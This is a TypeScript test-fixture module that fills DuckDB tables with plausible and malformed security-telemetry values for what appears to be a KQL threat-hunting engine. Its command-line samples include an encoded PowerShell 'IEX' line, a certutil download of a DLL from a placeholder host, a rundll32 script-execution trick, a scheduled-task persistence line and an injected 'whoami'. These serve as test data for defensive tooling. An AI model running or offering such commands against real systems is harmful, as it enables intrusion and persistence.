import { DUCKDB_TYPES } from "../src/fragment/duckdb-types.js";
import { quoteName, quoteString } from "../src/fragment/quote.js";
import type { Column, KqlType } from "../src/plan/types.js";
import type { Session } from "../src/store/session.js";

/** Rows of each table. Coprime to the lengths of the lists below, so that values meet in many combinations. */
const ROWS = 23;

/** 2026-03-03T06:00:00Z in ticks. */
const START = 639_081_144_000_000_000n;

const HASHES = [
  "",
  "b".repeat(40),
  "0123456789ABCDEF0123456789abcdef01234567",
  "e3b0c442".repeat(8),
  "no hash",
];

const IPS = [
  "10.1.2.3",
  "",
  "8.8.8.8",
  "fe80::1",
  "::ffff:192.168.1.5",
  "999.1.1.1",
  "192.168.0.0/16",
  "2001:db8::/32",
  "not an ip",
  "127.0.0.1",
];

const PATHS = [
  String.raw`C:\Windows\System32\cmd.exe`,
  "",
  String.raw`C:\Users\anna\AppData\Local\Temp\a "b".tmp`,
  "/usr/bin/bash",
  String.raw`\\srv-1\c$\windows\temp\x.dll`,
  "noext",
  String.raw`C:\Users\Zoë\Bücher\日本.exe`,
];

const COMMANDS = [
  "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
  "",
  String.raw`"C:\Program Files\a b\x.exe" /c "echo ""hi""" & whoami`,
  "schtasks /create /tn A /tr C:\\x.exe /sc minute /mo 5",
  `cmd ^&^& ${"A".repeat(300)} %ZZ %41 "unclosed`,
  "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\";alert('x')",
  "certutil -urlcache -split -f http://a.example.test/p?q=1#f C:\\p.dll",
  "[(a+b*c?.|$^)] \t \r\n \u00a0",
];

const URLS = [
  "https://user:pw@login.example.test:8443/a/b.php?x=1&y=%20z#frag",
  "",
  "http://[2001:db8::1]/",
  "example.test",
  "http://%zz/",
  "mailto:a@example.test",
];

const JSONS = [
  '{"Command":"Get-Item","DataSource":"x","FileSize":12345678901234567890,"nested":{"a":[1,2,{"b":null}]},"t":"2026-03-01T00:00:00Z","ok":true}',
  "",
  "{}",
  "[]",
  '[{"UserName":"anna","DomainName":"CORP","Sid":"S-1-5-21-1"},{"UserName":null}]',
  '["10.0.0.1","fe80::1",5,null,{"IPAddress":"10.1.2.3"}]',
  '{"broken": ',
  "null",
  '"text"',
  "17",
  '{"a b":1,"A B":2,"":3,"é":"\\u0000"}',
  '{"ThreatName":"Eicar","WasRemediated":"false","Port":"70000","IsAdmin":0,"TaskContent":"<Task><A b=\\"1\\">x</A></Task>"}',
];

const TIMES_AS_TEXT = ["2026-03-01T10:00:00Z", "", "yesterday", "3/1/2026 10:00", "1.02:03:04"];
const VERSIONS = ["10.0.19045.4046", "", "1.2", "v9", "1.2.3.4.5"];
const NAMES = [
  "anna",
  "",
  "CORP\\svc-backup$",
  "SYSTEM",
  "o'neil@example.test",
  "Ünïcode 名前",
  "500",
  "S-1-5-18",
];
const FILES = [
  "cmd.exe",
  "",
  "powershell.exe",
  "a.b.tar.gz",
  "Invoice.pdf.exe",
  "README",
  "évil.DLL",
  "x.ps1",
];
const NUMBERS_AS_TEXT = ["443", "", "-1", "0x1F", "99999999999999999999", "1e308", "NaN"];

/** Texts a column of that name holds, and odd ones. */
function texts(name: string): readonly string[] {
  if (/SHA1|SHA256|MD5|Hash/i.test(name)) return HASHES;
  if (
    /Fields|JSON|Details|^(LoggedOnUsers|IPAddresses|Evidence|Query|Parameters)|Properties|Resources|Data$/i.test(
      name,
    )
  )
    return JSONS;
  if (/IP|Addr/i.test(name)) return IPS;
  if (/Command/i.test(name)) return COMMANDS;
  if (/Path|RegistryKey|Directory/i.test(name)) return PATHS;
  if (/Url|Uri/i.test(name)) return URLS;
  if (/FileName|ProcessName/i.test(name)) return FILES;
  if (/Time|Date/i.test(name)) return TIMES_AS_TEXT;
  if (/Version/i.test(name)) return VERSIONS;
  if (/Id$|Value|Count|Port|Level|Score/i.test(name))
    return [...NUMBERS_AS_TEXT, ...JSONS.slice(0, 3), ...COMMANDS];
  return NAMES;
}

const WHOLE = [0n, 1n, null, -1n, 443n, 2n ** 63n - 1n, 1234n, -(2n ** 63n), 4_294_967_296n, 65_535n];
const SMALL = [443n, 0n, null, -1n, 2n ** 31n - 1n, 80n, -(2n ** 31n)];
const REALS = ["0", "NULL", "1.5", "-2.25", "'nan'", "'inf'", "1e300"];
const GUIDS = ["11111111-2222-3333-4444-555555555555", null, "00000000-0000-0000-0000-000000000000"];
const ODD_TIMES = [null, 0n, 3_155_378_975_999_999_999n];

/** The SQL literal of the value in one cell. */
function cell({ name, type }: Column, row: number, at: number): string {
  const pick = <T>(list: readonly T[]): T => {
    const value = list[(row + at * 3) % list.length];
    if (value === undefined) throw new Error("bug: an empty list");
    return value;
  };
  switch (type) {
    case "string":
      return name === "DeviceId" || name === "DeviceName"
        ? quoteString(`ws-${row % 4}`)
        : quoteString(pick(texts(name)));
    case "bool":
      return pick(["true", "false", "NULL"]);
    case "int":
      return String(pick(SMALL) ?? "NULL");
    case "long":
      return String(pick(WHOLE) ?? "NULL");
    case "real":
    case "decimal":
      return pick(REALS);
    case "guid": {
      const text = pick(GUIDS);
      return text === null ? "NULL" : quoteString(text);
    }
    case "timespan":
      return pick(["0", "NULL", "36000000000", "-1"]);
    case "datetime":
      return row % 7 === 6
        ? String(pick(ODD_TIMES) ?? "NULL")
        : String(START + BigInt(row * 17 + at) * 600_000_001n);
    case "dynamic": {
      const text = pick(JSONS);
      return text === "" || text === "null" || text.startsWith('{"broken') ? "NULL" : quoteString(text);
    }
    case "hll":
    case "tdigest":
      throw new Error("bug: a table has no sketches");
  }
}

const SYSTEM_COLUMNS = [
  ["coldhunt_input", "INTEGER"],
  ["coldhunt_row", "BIGINT"],
  ["coldhunt_ingestion", "BIGINT"],
] as const;

/**
 * Makes each of the tables in the session, with rows that hold plausible values, missing ones and odd ones; with
 * `rows: false` all are empty.
 */
export async function fillTables(
  session: Session,
  tables: ReadonlyMap<string, readonly Column[]>,
  options: { readonly rows: boolean },
): Promise<void> {
  for (const [table, columns] of tables) {
    const types = [
      ...columns.map(({ name, type }): readonly [string, string] => [
        name,
        DUCKDB_TYPES[type satisfies KqlType],
      ]),
      ...SYSTEM_COLUMNS,
    ];
    await session.run(
      `CREATE TABLE ${quoteName(table)} (${types.map(([name, type]) => `${quoteName(name)} ${type}`).join(", ")})`,
    );
    if (!options.rows) continue;
    const rows = Array.from({ length: ROWS }, (_, row) => {
      const cells = columns.map((column, at) => cell(column, row, at));
      return `(${[...cells, 1, row + 1, START + BigInt(row)].join(", ")})`;
    });
    await session.run(`INSERT INTO ${quoteName(table)} VALUES ${rows.join(", ")}`);
  }
  await session.run(`SET VARIABLE kql_now = ${START + 864_000_000_000n}::BIGINT`);
}
